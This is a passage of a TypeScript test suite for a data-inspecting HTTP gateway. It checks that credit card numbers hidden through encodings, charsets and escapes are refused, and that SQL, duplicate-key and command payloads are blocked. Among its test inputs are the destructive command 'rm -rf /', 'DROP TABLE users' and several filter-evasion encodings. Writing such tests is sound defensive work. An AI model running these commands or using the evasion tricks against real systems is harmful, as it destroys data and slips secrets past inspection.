    req.on('error', reject);
    req.end();
  });
  assert.equal(early.status, 200);
  assert.deepEqual(hints, []);
  const reason = await new Promise<string>((resolve, reject) => {
    const req = request(`${t.gw.url}/proxy/evil/reason`, { headers: { authorization: `Bearer ${bob}` } }, (res) => { res.resume(); resolve(res.statusMessage!); });
    req.on('error', reject);
    req.end();
  });
  assert.equal(reason, 'OK');
  const head = await raw('HEAD', '/proxy/evil/head-body');
  assert.equal(head.status, 200);
  assert.equal(head.body.length, 0);
});

test('multipart parts are read as a reader reads them: a card hidden by a transfer encoding, a charset or an encoded filename is refused; JSON parts meet the JSON checks', async () => {
  const multipart = (parts: string[], type = 'multipart/form-data; boundary=XyZ') => raw('POST', '/proxy/evil/upload', { 'content-type': type },
    Buffer.from(parts.map((p) => `--XyZ\r\n${p}\r\n`).join('') + '--XyZ--\r\n'));
  const field = 'Content-Disposition: form-data; name="note"';
  const before = seen.length;
  for (const [part, kind] of [
    [`${field}\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(CARD_SPACED).toString('base64')}`, 'hidden_text'],
    [`${field}\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n4111=201111=201111=201111`, 'hidden_text'],
    [`Content-Disposition: form-data; name="f"; filename*=UTF-8''4111%201111%201111%201111\r\n\r\nx`, 'hidden_text'],
    [`${field}\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+ADQ-111 1111 1111 1111`, 'charset'],
    [`${field}\r\nContent-Type: application/json\r\n\r\n{"to":"ada","to":"mallory"}`, 'duplicate_key'],
    [`${field}\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\nzz`, 'encoding'],
  ] as const) {
    const r = await multipart([part]);
    assert.equal(r.status, 403, `${part}: ${r.body}`);
    assert.match(errorOf(r).message, new RegExp(`inspect\\.${kind}`), part);
  }
  const twice = await multipart([`${field}\r\n\r\nhi`], 'multipart/form-data; boundary=XyZ; boundary=other');
  assert.equal(twice.status, 403);
  assert.match(errorOf(twice).message, /inspect\.multipart/);
  assert.equal(seen.length, before, 'none reached the target');
  // A card in plain sight is masked where it stands, and the other parts pass as sent.
  const plain = await multipart([`${field}\r\n\r\ncard ${CARD_SPACED}`, 'Content-Disposition: form-data; name="f"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\nhello']);
  assert.equal(plain.status, 200, plain.body.toString());
  assert.equal(last().body.toString(), `--XyZ\r\n${field}\r\n\r\ncard [CREDIT_CARD]\r\n--XyZ\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--XyZ--\r\n`);
});

test('a header value that hides a card in percent-escapes, an RFC 2231 filename or an RFC 2047 word is refused, either way', async () => {
  for (const route of ['encoded-location', 'disposition', 'encoded-word']) {
    const r = await raw('GET', `/proxy/evil/${route}`);
    assert.equal(r.status, 403, `${route}: ${r.status} ${JSON.stringify(r.headers)}`);
    assert.match(errorOf(r).message, /inspect\.hidden_text/, route);
    assert.doesNotMatch(JSON.stringify(r.headers), /4111(?:[\s_-]|%20|=20)*1111/, route);
  }
  const before = seen.length;
  const cookie = await raw('GET', '/proxy/evil/echo', { cookie: 'c=4111%201111%201111%201111' });
  assert.equal(cookie.status, 403, cookie.body.toString());
  assert.match(errorOf(cookie).message, /inspect\.hidden_text/);
  assert.equal(seen.length, before);
  // Escapes that hide nothing pass as sent.
  const plain = await raw('GET', '/proxy/evil/echo', { cookie: 'theme=dark%20blue', referer: 'https://x.example/a%20b' });
  assert.equal(plain.status, 200);
  assert.equal(last().headers.cookie, 'theme=dark%20blue');
});

test('XML and HTML character references that spell a card (in XML, or in a JSON string rendered as HTML) are refused', async () => {
  for (const route of ['xml-refs', 'json-html']) {
    const r = await raw('GET', `/proxy/evil/${route}`);
    assert.equal(r.status, 403, `${route}: ${r.body}`);
    assert.match(errorOf(r).message, /inspect\.hidden_text/, route);
  }
});

test('a streamed connection (limits.oversize: stream) does not stream what must be read whole: a large form or multipart body is refused, never passed percent-encoded', async () => {
  const filler = 'x'.repeat(100 * 1024);
  const before = seen.length;
  const form = await raw('POST', '/proxy/streamy/echo', { 'content-type': 'application/x-www-form-urlencoded' }, Buffer.from(`pad=${filler}&card=4111%201111%201111%201111`));
  assert.equal(form.status, 403, form.body.toString().slice(0, 300));
  assert.match(errorOf(form).message, /A form body is inspected whole, so it is not streamed/);
  const multipart = await raw('POST', '/proxy/streamy/echo', { 'content-type': 'multipart/form-data; boundary=XyZ' },
    Buffer.from(`--XyZ\r\nContent-Disposition: form-data; name="pad"\r\n\r\n${filler}\r\n--XyZ\r\nContent-Disposition: form-data; name="c"\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(CARD_SPACED).toString('base64')}\r\n--XyZ--\r\n`));
  assert.equal(multipart.status, 403, multipart.body.toString().slice(0, 300));
  assert.equal(seen.length, before, 'neither reached the target');
  // Streamed text is still read through its escapes, window by window.
  const escaped = await raw('POST', '/proxy/streamy/echo', { 'content-type': 'text/plain' }, Buffer.from(`${filler} <c>&#52;111&#32;1111 1111 1111</c> ${filler}`));
  assert.notEqual(escaped.status, 200);
  assert.ok(!seen.slice(before).some((s) => s.body.toString().includes('&#52;111&#32;1111')), 'the escaped card never reached the target whole');
});

test('charset=utf-16 without a byte-order mark (little-endian to WHATWG, big-endian to RFC 2781) is refused; with a mark, or named utf-16le, it is read', async () => {
  const r = await raw('GET', '/proxy/evil/utf16-be-unmarked');
  assert.equal(r.status, 403, r.body.toString('utf16le'));
  assert.match(errorOf(r).message, /inspect\.charset/);
  const marked = await raw('GET', '/proxy/evil/utf16-bom');
  assert.equal(marked.status, 200);
});

test('JSON Lines are read a document a line: SQL and duplicate keys in any line are judged, a card is masked in its line', async () => {
  const before = seen.length;
  for (const type of ['application/x-ndjson', 'text/plain']) {
    const sql = await raw('POST', '/proxy/evil/batch', { 'content-type': type }, Buffer.from('{"op":"noop"}\n{"sql":"DROP TABLE users"}\n'));
    assert.equal(sql.status, 403, `${type}: ${sql.body}`);
    assert.match(errorOf(sql).message, /sql\.drop/);
    const dupe = await raw('POST', '/proxy/evil/batch', { 'content-type': type }, Buffer.from('{"op":"noop"}\n{"to":"ada","to":"mallory"}\n'));
    assert.equal(dupe.status, 403, `${type}: ${dupe.body}`);
    assert.match(errorOf(dupe).message, /inspect\.duplicate_key/);
  }
  assert.equal(seen.length, before, 'none reached the target');
  const r = await raw('GET', '/proxy/evil/ndjson');
  assert.equal(r.status, 200);
  assert.equal(r.body.toString(), '{"n":1}\n{"card":"[CREDIT_CARD …1111]"}\n');
});

test('control characters in a query value or path segment, and UTF-8 zero-width spaces in a header, do not hide a card', async () => {
  const before = seen.length;
  for (const path of ['/proxy/evil/echo?q=4111%C2%851111%C2%851111%C2%851111', '/proxy/evil/echo?q=4111%011111%011111%011111', '/proxy/evil/users/4111%C2%851111%C2%851111%C2%851111', '/proxy/evil/echo?q=%26%2352%3B111%201111%201111%201111']) {
    const r = await raw('GET', path);
    assert.equal(r.status, 403, `${path}: ${r.body}`);
    assert.match(errorOf(r).message, /inspect\.hidden_text/, path);
  }
  const header = await raw('GET', '/proxy/evil/echo', { 'x-note': Buffer.from('card 4111\u200b1111\u200b1111\u200b1111', 'utf8').toString('latin1') });
  assert.equal(header.status, 403, header.body.toString());
  assert.match(errorOf(header).message, /inspect\.hidden_text/);
  assert.equal(seen.length, before, 'none reached the target');
  const answer = await raw('GET', '/proxy/evil/utf8-header');
  assert.equal(answer.status, 403);
  assert.match(errorOf(answer).message, /inspect\.hidden_text/);
});

test('a mapped body path or query name is matched as lenient readers match names (case and compatibility folded), and names each value of a form field', async () => {
  const before = seen.length;
  for (const body of [{ Q: 'SELEC * FRM users' }, { q: 'select 1', Q: 'SELEC * FRM users' }]) {
    const r = await raw('POST', '/proxy/sqlapi/run', { 'content-type': 'application/json' }, json(body));
    assert.equal(r.status, 403, `${JSON.stringify(body)}: ${r.body}`);
    assert.match(errorOf(r).message, /sql\.unparsed|inspect\.failed/);
  }
  const form = await raw('POST', '/proxy/sqlapi/run', { 'content-type': 'application/x-www-form-urlencoded' }, Buffer.from('q=SELEC+*+FRM+users'));
  assert.equal(form.status, 403, form.body.toString());
  assert.equal(seen.length, before, 'none reached the target');
  const ok = await raw('POST', '/proxy/sqlapi/run', { 'content-type': 'application/x-www-form-urlencoded' }, Buffer.from('q=select+1&q=select+2'));
  assert.equal(ok.status, 200, ok.body.toString());
  assert.equal(last().body.toString(), 'q=select+1&q=select+2');
});

test('a masked JSON answer changes nothing but what was masked: big integers, 1e400, long decimals and -0 leave as written; a card written as a number is still a card', async () => {
  const r = await raw('GET', '/proxy/evil/numbers');
  assert.equal(r.status, 200, r.body.toString());
  assert.equal(r.body.toString(), '{"id":1234567890123456789,"f":1e400,"g":0.12345678901234567890123,"z":-0,"e":100,"p":9.99,"card":"[CREDIT_CARD …1111]","n":"[CREDIT_CARD …1111]"}');
});

test('a target cannot speak for the gateway in its answer: its x-airlock-* headers are dropped', async () => {
  const r = await raw('GET', '/proxy/evil/spoof');
  assert.equal(r.status, 200);
  assert.deepEqual(Object.keys(r.headers).filter((h) => h.startsWith('x-airlock-')), []);
});

test('JSON inside a string (a query value, a JSON field) is looked into for SQL and commands; an XML entity declaration is refused', async () => {
  const before = seen.length;
  const query = await raw('GET', `/proxy/evil/run?filter=${encodeURIComponent('{"sql":"DROP TABLE users"}')}`);
  assert.equal(query.status, 403, query.body.toString());
  assert.match(errorOf(query).message, /sql\.drop/);
  const field = await raw('POST', '/proxy/evil/run', { 'content-type': 'application/json' }, json({ payload: JSON.stringify({ steps: [{ cmd: 'rm -rf /' }] }) }));
  assert.equal(field.status, 403, field.body.toString());
  assert.match(errorOf(field).message, /shell/);
  assert.equal(seen.length, before, 'neither reached the target');
  const harmless = await raw('POST', '/proxy/evil/run', { 'content-type': 'application/json' }, json({ payload: JSON.stringify({ note: 'drop me a line' }) }));
  assert.equal(harmless.status, 200);
  // A key given twice inside the string: JSON.parse keeps the last, a first-wins reader the first.
  const twice = await raw('GET', `/proxy/evil/run?filter=${encodeURIComponent('{"sql":"DROP TABLE users","sql":"select 1"}')}`);
  assert.equal(twice.status, 403, twice.body.toString());
  assert.match(errorOf(twice).message, /inspect\.duplicate_key/);
  const entity = await raw('GET', '/proxy/evil/xml-entity');
  assert.equal(entity.status, 403);
  assert.match(errorOf(entity).message, /inspect\.hidden_text/);
});

test('JSON that is not valid UTF-8 is refused whatever its Content-Type (a lenient reader parses it with U+FFFD)', async () => {
  const before = seen.length;
  const body = Buffer.concat([Buffer.from('{"sql":"DROP TABLE users","x":"'), Buffer.from([0xff]), Buffer.from('"}')]);
  for (const headers of [{}, { 'content-type': 'application/octet-stream' }] as Array<Record<string, string>>) {
    const r = await raw('POST', '/proxy/evil/run', headers, body);
    assert.equal(r.status, 403, `${JSON.stringify(headers)}: ${r.body}`);
    assert.match(errorOf(r).message, /inspect\.charset/);
  }
  assert.equal(seen.length, before);
});

const eventsOf = (id: string) => requestEvents(t, id, 'evil');
